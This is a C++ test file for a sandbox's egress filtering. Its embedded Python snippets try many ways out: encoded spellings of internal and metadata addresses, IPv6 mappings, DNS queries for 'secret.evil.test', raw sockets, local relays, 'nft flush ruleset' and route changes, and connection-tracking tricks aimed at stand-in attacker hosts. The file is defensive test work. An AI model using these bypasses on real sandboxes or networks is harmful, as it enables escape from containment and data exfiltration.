#include <gmock/gmock.h>

#include "attacks/egress_attack.h"

// Attacks on the way out of a sandbox: addresses, other protocols, other routes.
namespace carrel::test {
namespace {

using std::chrono::seconds;
using testing::Contains;
using testing::HasSubstr;
using testing::IsSubsetOf;

class EgressRouteAttack : public EgressAttack {
 protected:
  // A server on the host that repeats what it hears, at every address of it.
  std::unique_ptr<Process> serve_on_host(int port) {
    Launch launch;
    launch.program = "/usr/bin/python3";
    launch.arguments = {"-Bc",
                        "import socket\n"
                        "server = socket.create_server(('0.0.0.0', " +
                            std::to_string(port) +
                            "))\n"
                            "print('up', flush=True)\n"
                            "while True:\n"
                            "    one = server.accept()[0]\n"
                            "    one.sendall(one.recv(100))\n"
                            "    one.close()\n"};
    launch.environment = {"PATH=/usr/bin:/bin"};
    launch.directory = "/";
    auto process = std::make_unique<Process>(launch);
    EXPECT_TRUE(process->wait_for_output("up", seconds(10)));
    return process;
  }
};
CARREL_AS_BOTH(EgressRouteAttack);

TEST_P(EgressRouteAttack, D01_NoVariableIsNeededAndNoneOpensMore) {
  const std::string code =
      "for name in [one for one in os.environ if one.lower().endswith('_proxy')]:\n"
      "    del os.environ[name]\n"
      "attempt('allowed', fetch, 'https://allowed.test/')\n"
      "attempt('evil', fetch, 'https://evil.test/')\n"
      "os.environ['https_proxy'] = 'http://127.0.0.1:3128'\n"
      "attempt('allowed by proxy', fetch, 'https://allowed.test/')\n"
      "attempt('evil by proxy', fetch, 'https://evil.test/')\n"
      "os.environ['https_proxy'] = 'http://11.6.6.6:8080'\n"
      "attempt('by a proxy outside', fetch, 'https://allowed.test/')\n";
  EXPECT_EQ(through("allow=allowed.test", code), (Names{"allowed", "allowed by proxy"}));
  EXPECT_EQ(reached(), Names{"tcp 11.1.1.1 443"});
}

constexpr const char* kLiterals =
    "attempt('evil', secured, '11.6.6.6', None)\n"
    "attempt('evil with a name', secured, '11.6.6.6', 'allowed.test')\n"
    "attempt('allowed, tls', secured, '11.1.1.1', 'allowed.test')\n"
    "attempt('allowed, no name', secured, '11.1.1.1', None)\n"
    "attempt('allowed, http', answers, '11.1.1.1')\n"
    "attempt('allowed, http by name', answers, '11.1.1.1', 80, request('allowed.test'))\n"
    "attempt('evil, bytes', echoes, '11.6.6.6')\n";

TEST_P(EgressRouteAttack, D03_AnAddressThatNoRuleListsIsNotReached) {
  EXPECT_EQ(through("allow=allowed.test,http:allowed.test,tcp:allowed.test:7000", kLiterals),
            Names{});
  EXPECT_EQ(reached(), Names{});
  EXPECT_EQ(through("allow=11.1.1.1,tcp:11.6.6.6:7000", kLiterals),
            (Names{"allowed, no name", "evil, bytes"}));
  EXPECT_EQ(through_outside(kLiterals).size(), 7U);
}

TEST_P(EgressRouteAttack, D04_TheSixthVersionIsNoWayAroundTheFourth) {
  const std::string code =
      "for host in ('2400:1111::1', '::ffff:11.6.6.6', '::ffff:10.1.2.3', '64:ff9b::a01:203',\n"
      "             '64:ff9b::b06:606', '2002:b06:606::1', '2002:a01:203::1', '::11.6.6.6',\n"
      "             'fe80::1%lo', '::', '::ffff:0:0', '::ffff:127.0.0.1', '::1'):\n"
      "    attempt(host, answers, host)\n"
      "for name in ('mapped.test', 'nat64.test', 'sixtofour.test', 'local6.test', 'six.test'):\n"
      "    attempt(name, answers, name)\n";
  EXPECT_EQ(through("allow=http:allowed.test", code), Names{});
  EXPECT_EQ(reached(), Names{});
  // Everything public, and nothing that leads inward in another spelling.
  EXPECT_EQ(through("full", code), (Names{"2400:1111::1", "::ffff:11.6.6.6", "six.test"}));
  EXPECT_THAT(reached(),
              IsSubsetOf(Names{"tcp 2400:1111::1 80", "tcp 11.6.6.6 80", "tcp 64:ff9b::b06:606 80",
                               "tcp 2002:b06:606::1 80", "tcp ::11.6.6.6 80"}));
  EXPECT_THAT(through_outside("attempt('six', answers, '2400:1111::1')\n"), Contains("six"));
}

TEST_P(EgressRouteAttack, D05_EverySpellingOfAnAddressIsThatAddress) {
  const std::string code =
      "for host in ('2852039166', '0xA9FEA9FE', '0251.0376.0251.0376', '169.254.43518',\n"
      "             '169.254.169.254', '127.1', '0', '[::]', '0.0.0.0', '127.0.0.1', '10.66051',\n"
      "             '0x0a.1.2.3', '012.1.2.3'):\n"
      "    attempt(host, fetch, 'http://%s/' % host)\n"
      "    attempt(host + ' by proxy', lambda: b'hello from' in\n"
      "            proxied(request(host, 'http://%s/' % host))[1])\n"
      "    attempt(host + ' by tunnel', tunnelled, host + ':80')\n"
      "    attempt(host + ' by socks', lambda: socks(host.encode(), 80) == 0)\n";
  EXPECT_EQ(through("full", code), Names{});
  EXPECT_EQ(reached(), Names{});
  EXPECT_THAT(through_outside("attempt('a', fetch, 'http://2852039166/')\n"
                              "attempt('b', fetch, 'http://0251.0376.0251.0376/')\n"),
              (Names{"a", "b"}));
}

TEST_P(EgressRouteAttack, D07_ServicesOfTheHostAndOfOtherSandboxesAreNotReached) {
  ASSERT_EQ(std::system("ip addr add 172.17.0.1/16 dev lo && ip addr add 192.168.7.7/32 dev lo"),
            0);
  const auto server = serve_on_host(9999);
  const std::string code =
      "for host in ('127.0.0.1', 'localhost', '11.0.0.2', '172.17.0.1', '192.168.7.7',\n"
      "             'gateway.test', 'loop.test', '10.255.0.2', '198.18.0.1', '0.0.0.0'):\n"
      "    attempt(host, echoes, host, 9999)\n"
      "    attempt(host + ' by socks', lambda: socks_echoes(host.encode(), 9999))\n";
  const std::string other = create({"--network", "full"});
  Process listening(launch({"exec", other, "--", "python3", "-c",
                            "import socket\n"
                            "server = socket.create_server(('0.0.0.0', 9999))\n"
                            "print('up', flush=True)\n"
                            "while True:\n"
                            "    one = server.accept()[0]\n"
                            "    one.sendall(one.recv(100))\n"
                            "    one.close()\n"}));
  ASSERT_TRUE(listening.wait_for_output("up", seconds(10)));
  EXPECT_EQ(through("full", code), Names{});
  EXPECT_EQ(reached(), Names{});
  // What another sandbox has on its loopback is there, and there only.
  EXPECT_THAT(through_in(other,
                         "attempt('own', echoes, '10.255.0.2', 9999)\n"
                         "attempt('loopback', echoes, '127.0.0.1', 9999)\n"),
              (Names{"own", "loopback"}));
  EXPECT_THAT(through("allow=tcp:11.0.0.2:9999", code), Contains("11.0.0.2"));
  EXPECT_THAT(through_outside(code),
              IsSubsetOf(Names{"127.0.0.1", "localhost", "11.0.0.2", "172.17.0.1", "192.168.7.7",
                               "gateway.test", "loop.test", "0.0.0.0"}));
  EXPECT_THAT(through_outside(code), Contains("172.17.0.1"));
}

TEST_P(EgressRouteAttack, D11_OtherWaysToAskForNamesAreClosed) {
  const std::string code =
      "def sent(host, port):\n"
      "    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:\n"
      "        sock.settimeout(1)\n"
      "        sock.connect((host, port))\n"
      "        sock.send(question('secret.evil.test'))\n"
      "        return True\n"
      "attempt('over https', secured, '8.8.8.8', None)\n"
      "attempt('over https by name', secured, '8.8.8.8', 'allowed.test')\n"
      "attempt('over tls', echoes, '8.8.8.8', 853)\n"
      "for host, port in (('8.8.8.8', 853), ('224.0.0.251', 5353), ('224.0.0.252', 5355),\n"
      "                   ('11.0.0.255', 137), ('255.255.255.255', 137), ('8.8.8.8', 443)):\n"
      "    attempt('datagram to %s %d' % (host, port), sent, host, port)\n";
  EXPECT_EQ(through("allow=allowed.test", code), Names{});
  EXPECT_EQ(reached(), Names{});
  EXPECT_THAT(internet().queries(), testing::IsEmpty());
  EXPECT_THAT(through_outside(code),
              testing::IsSupersetOf(Names{"over https", "over tls", "datagram to 8.8.8.8 853",
                                          "datagram to 224.0.0.251 5353"}));
  EXPECT_THAT(reached(), Contains("udp 8.8.8.8 853"));
}

TEST_P(EgressRouteAttack, D12_DatagramsAndPingsAreRefusedAtOnce) {
  const std::string code =
      "def sent(family, kind, protocol, where):\n"
      "    begun = time.time()\n"
      "    try:\n"
      "        with socket.socket(family, kind, protocol) as sock:\n"
      "            sock.connect(where)\n"
      "            sock.send(b'\\x08\\0\\xf7\\xff' + b'\\0' * 60)\n"
      "            return True\n"
      "    finally:\n"
      "        if time.time() - begun > SLOWNESS:\n"
      "            print('through slowly', flush=True)\n"
      "for port in (1, 123, 443, 500, 4500, 33434, 65535):\n"
      "    attempt('udp %d' % port, sent, socket.AF_INET, socket.SOCK_DGRAM, 0, ('11.1.1.1', "
      "port))\n"
      "attempt('udp6', sent, socket.AF_INET6, socket.SOCK_DGRAM, 0, ('2400:1111::1', 443))\n"
      "attempt('lite', sent, socket.AF_INET, socket.SOCK_DGRAM, 136, ('11.1.1.1', 443))\n"
      "attempt('ping', sent, socket.AF_INET, socket.SOCK_DGRAM, 1, ('11.1.1.1', 0))\n"
      "attempt('raw ping', sent, socket.AF_INET, socket.SOCK_RAW, 1, ('11.1.1.1', 0))\n"
      "attempt('sctp', sent, socket.AF_INET, socket.SOCK_STREAM, 132, ('11.1.1.1', 80))\n"
      "attempt('mptcp', lambda: answers('allowed.test') if False else\n"
      "        sent(socket.AF_INET, socket.SOCK_STREAM, 262, ('11.6.6.6', 7000)) and False)\n";
  EXPECT_EQ(through("full", code), Names{});
  for (const std::string& one : reached()) {
    EXPECT_THAT(one, testing::StartsWith("tcp ")) << "something else than TCP left";
  }
  const Names outside = through_outside(code);
  EXPECT_THAT(outside, testing::IsSupersetOf(Names{"udp 443", "udp 33434", "raw ping"}));
  EXPECT_THAT(reached(), testing::IsSupersetOf(Names{"udp 11.1.1.1 443", "icmp 11.1.1.1 0"}));
}

TEST_P(EgressRouteAttack, D13_NoOtherFamilyOfSocketsIsThere) {
  const std::string code =
      "NETLINK, KEY, PACKET, ALG, VSOCK, TIPC, BLUETOOTH, XDP, CAN, NFC, RXRPC, AX25, KCM = (\n"
      "    16, 15, 17, 38, 40, 30, 31, 44, 29, 39, 33, 3, 41)\n"
      "RAW, DGRAM, STREAM, SEQ = 3, 2, 1, 5\n"
      "for name, family, kind, protocol in (\n"
      "    ('packet', PACKET, RAW, 768), ('packet dgram', PACKET, DGRAM, 768), ('raw', 2, RAW, "
      "255),\n"
      "    ('raw6', 10, RAW, 58), ('netfilter', NETLINK, RAW, 12), ('audit', NETLINK, RAW, 9),\n"
      "    ('uevent', NETLINK, RAW, 15), ('xfrm', NETLINK, RAW, 6), ('generic', NETLINK, RAW, "
      "16),\n"
      "    ('diag', NETLINK, RAW, 4), ('key', KEY, RAW, 2), ('alg', ALG, SEQ, 0),\n"
      "    ('vsock', VSOCK, STREAM, 0), ('tipc', TIPC, SEQ, 0), ('bluetooth', BLUETOOTH, RAW, 1),\n"
      "    ('xdp', XDP, RAW, 0), ('can', CAN, RAW, 1), ('nfc', NFC, SEQ, 0),\n"
      "    ('rxrpc', RXRPC, DGRAM, 2), ('ax25', AX25, SEQ, 0), ('kcm', KCM, DGRAM, 0)):\n"
      "    attempt(name, lambda: bool(socket.socket(family, kind, protocol)))\n";
  EXPECT_EQ(through("full", code), Names{});
  EXPECT_THAT(through_outside(code),
              testing::IsSupersetOf(Names{"packet", "raw", "raw6", "netfilter", "generic"}));
}

TEST_P(EgressRouteAttack, D28_ARelayInsideReachesWhatIsReachedDirectly) {
  const std::string code =
      "def relay(server, target):\n"
      "    inner = server.accept()[0]\n"
      "    try:\n"
      "        outer = socket.create_connection(target, 3)\n"
      "        outer.sendall(inner.recv(1000))\n"
      "        inner.sendall(outer.recv(1000))\n"
      "    except OSError:\n"
      "        pass\n"
      "    inner.close()\n"
      "for name in ('allowed.test', '11.6.6.6', '10.1.2.3'):\n"
      "    server = socket.create_server(('127.0.0.1', 0))\n"
      "    threading.Thread(target=relay, args=(server, (name, 7000)), daemon=True).start()\n"
      "    attempt(name, echoes, '127.0.0.1', server.getsockname()[1])\n";
  EXPECT_EQ(through("allow=tcp:allowed.test:7000", code), Names{"allowed.test"});
  EXPECT_EQ(reached(), Names{"tcp 11.1.1.1 7000"});
  EXPECT_EQ(through_outside(code).size(), 3U);
}

TEST_P(EgressRouteAttack, D32_RoutesRulesAndSettingsOfTheNetworkCannotBeChanged) {
  const std::string code =
      "import subprocess\n"
      "os.environ['PATH'] += ':/usr/sbin:/sbin'\n"
      "def does(words):\n"
      "    done = subprocess.run(prefix + ['sh', '-c', words], capture_output=True)\n"
      "    return done.returncode == 0\n"
      "for words in ('ip route add 11.6.6.0/24 dev lo', 'ip route flush table local',\n"
      "              'ip link add name d0 type veth', 'ip link set lo down',\n"
      "              'ip addr add 11.9.9.9/32 dev lo', 'ip rule add pref 1 lookup main',\n"
      "              'nft flush ruleset', 'nft add table inet mine',\n"
      "              'echo 1 > /proc/sys/net/ipv4/ip_forward',\n"
      "              'echo 0 2147483647 > /proc/sys/net/ipv4/ping_group_range',\n"
      "              'unshare -Urn true', 'unshare -n true'):\n"
      "    attempt(words, does, words)\n";
  const std::string after = "prefix = []\n" + code +
                            "try:\n"
                            "    open('/etc/resolv.conf', 'w').write('nameserver 11.0.0.53\\n')\n"
                            "except OSError:\n"
                            "    pass\n"
                            "attempt('evil', echoes, '11.6.6.6')\n"
                            "attempt('evil lookup', finds, '11.0.0.53', 'evil.test')\n"
                            "attempt('evil by name', echoes, 'evil.test')\n"
                            "attempt('still there', echoes, 'allowed.test')\n";
  EXPECT_EQ(through("allow=tcp:allowed.test:7000", after), Names{"still there"});
  EXPECT_EQ(reached(), Names{"tcp 11.1.1.1 7000"});
  EXPECT_THAT(internet().queries(), testing::Not(Contains(HasSubstr("evil"))));
  EXPECT_THAT(through_outside("prefix = ['unshare', '-n']\n" + code),
              testing::IsSupersetOf(Names{"ip link add name d0 type veth", "nft flush ruleset",
                                          "nft add table inet mine", "unshare -n true"}));
}

TEST_P(EgressRouteAttack, D33_TheSocketsThatServeTheSandboxAreNoWayOut) {
  const std::string code =
      "for host in ('127.0.0.1', '::1', '10.255.0.2', '127.0.0.2'):\n"
      "    attempt('bytes to ' + host, lambda: said(host, 61001, TOKEN, 2))\n"
      "    attempt('request to ' + host, lambda: said(host, 61001, request('allowed.test'), 2))\n"
      "    attempt('evil lookup at ' + host, finds, host, 'evil.test', port=61053)\n"
      "    attempt('evil lookup over a stream at ' + host,\n"
      "            lambda: finds(host, 'evil.test', port=61053, stream=True))\n"
      "    attempt('bytes to the resolver at ' + host, lambda: said(host, 61053, b'G' * 70, 2))\n"
      "attempt('the proxy itself', lambda: proxied(request('127.0.0.1:3128', "
      "'http://127.0.0.1:3128/')\n"
      "        )[0].startswith(b'HTTP/1.1 200'))\n"
      "attempt('tunnel to itself', tunnelled, '127.0.0.1:3128')\n"
      "attempt('host side', lambda: [one for one in open('/proc/net/unix') if 'egress' in one])\n"
      "attempt('allowed', answers, 'allowed.test')\n";
  EXPECT_EQ(through("full", code + "attempt('nothing more', answers, 'allowed.test')\n"),
            (Names{"allowed", "nothing more", "evil lookup at 127.0.0.1", "evil lookup at ::1",
                   "evil lookup over a stream at 127.0.0.1", "evil lookup over a stream at ::1"}));
  EXPECT_EQ(through("allow=http:allowed.test", code), Names{"allowed"});
  EXPECT_EQ(reached(), Names{"tcp 11.1.1.1 80"});
}

TEST_P(EgressRouteAttack, D35_NoSocketIsInherited) {
  const std::string code =
      "def sockets():\n"
      "    found = []\n"
      "    for process in ['self', '1'] + [one for one in os.listdir('/proc') if one.isdigit()]:\n"
      "        try:\n"
      "            for fd in os.listdir('/proc/%s/fd' % process):\n"
      "                link = os.readlink('/proc/%s/fd/%s' % (process, fd))\n"
      "                if link.startswith('socket:'):\n"
      "                    found.append((process, fd, link))\n"
      "        except OSError:\n"
      "            pass\n"
      "    return found\n"
      "attempt('inherited', sockets)\n"
      "mine = socket.socket()\n"
      "attempt('own', sockets)\n";
  EXPECT_EQ(through("full", code), Names{"own"});
}

TEST_P(EgressRouteAttack, D43_ConnectionTrackingIsNoWayOut) {
  const std::string code =
      "def from_port(target, port):\n"
      "    with socket.socket() as sock:\n"
      "        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
      "        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))\n"
      "        sock.bind(('10.255.0.2', port))\n"
      "        sock.settimeout(3)\n"
      "        sock.connect(target)\n"
      "        return TOKEN in spoken_to(sock, TOKEN, 2)\n"
      "where = (socket.gethostbyname('allowed.test'), 7000)\n"
      "attempt('allowed', from_port, where, 40000)\n"
      "for _ in range(5):\n"
      "    attempt('evil from the same port', from_port, ('11.6.6.6', 7000), 40000)\n"
      // Whose kernel does not reset what it closes has to wait for the port.
      "for _ in range(3):\n"
      "    attempt('allowed again', from_port, where, 40000)\n"
      "for line in (b'PORT 11,6,6,6,27,88\\r\\n', b'EPRT |1|11.6.6.6|7000|\\r\\n',\n"
      "             b'227 Entering Passive Mode (11,6,6,6,27,88)\\r\\n',\n"
      "             b'INVITE sip:a@11.6.6.6:7000 SIP/2.0\\r\\nContact: "
      "<sip:a@11.6.6.6:7000>\\r\\n'):\n"
      "    attempt('said', lambda: said('allowed.test', 21, line + TOKEN, 1))\n"
      "    attempt('evil after ' + line.decode()[:6], echoes, '11.6.6.6', 7000)\n"
      "    attempt('answered', lambda: finds('11.6.6.6', 'evil.test'))\n"
      // From a port and an address that look like the other side of an answer.
      "def disguised():\n"
      "    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:\n"
      "        sock.settimeout(2)\n"
      "        sock.bind(('198.18.0.1', 53))\n"
      "        sock.sendto(TOKEN, ('11.6.6.6', 7000))\n"
      "        return True\n"
      "attempt('disguised', disguised)\n";
  EXPECT_EQ(through("allow=tcp:allowed.test:21+7000", code),
            (Names{"allowed", "allowed again", "said"}));
  EXPECT_EQ(reached(), (Names{"tcp 11.1.1.1 7000", "tcp 11.1.1.1 21"}));
  EXPECT_THAT(through_outside("attempt('evil', echoes, '11.6.6.6')\n"), Contains("evil"));
}

}  // namespace
}  // namespace carrel::test
